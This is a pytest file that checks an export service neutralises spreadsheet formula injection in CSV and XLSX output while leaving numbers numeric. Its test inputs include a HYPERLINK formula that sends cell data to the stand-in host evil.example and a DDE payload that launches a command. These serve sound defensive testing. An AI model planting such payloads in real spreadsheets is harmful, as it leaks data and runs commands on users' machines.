"""The one spreadsheet writer: text that a spreadsheet would run is neutralised, numbers are not."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.services import exports

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
HOSTILE += ["\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_starting_like_a_formula_is_text(text: str) -> None:
    [row] = list(csv.reader(io.StringIO(exports.to_csv([[text, "ok"]]))))
    assert row == ["'" + text, "ok"]


def test_numbers_stay_numbers() -> None:
    text = exports.to_csv([[Decimal("-12.50"), -3, 1.5, "-12.50", "+4", "-0,5", None]], ";")
    assert text == "-12.50;-3;1.5;-12.50;+4;-0,5;\r\n"


def test_xlsx_writes_text_cells_never_formulas() -> None:
    data = exports.to_xlsx([[*HOSTILE, Decimal("-12.50"), 7]], "Sheet")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = list(sheet.iter_rows(values_only=False))[0]
    for cell, text in zip(cells, HOSTILE, strict=False):
        # XML reads a carriage return back as a line feed
        assert (cell.value, cell.data_type, cell.quotePrefix) == (
            text.replace("\r", "\n"),
            "s",
            True,
        )
    assert [(c.value, c.data_type) for c in cells[-2:]] == [(-12.5, "n"), (7, "n")]
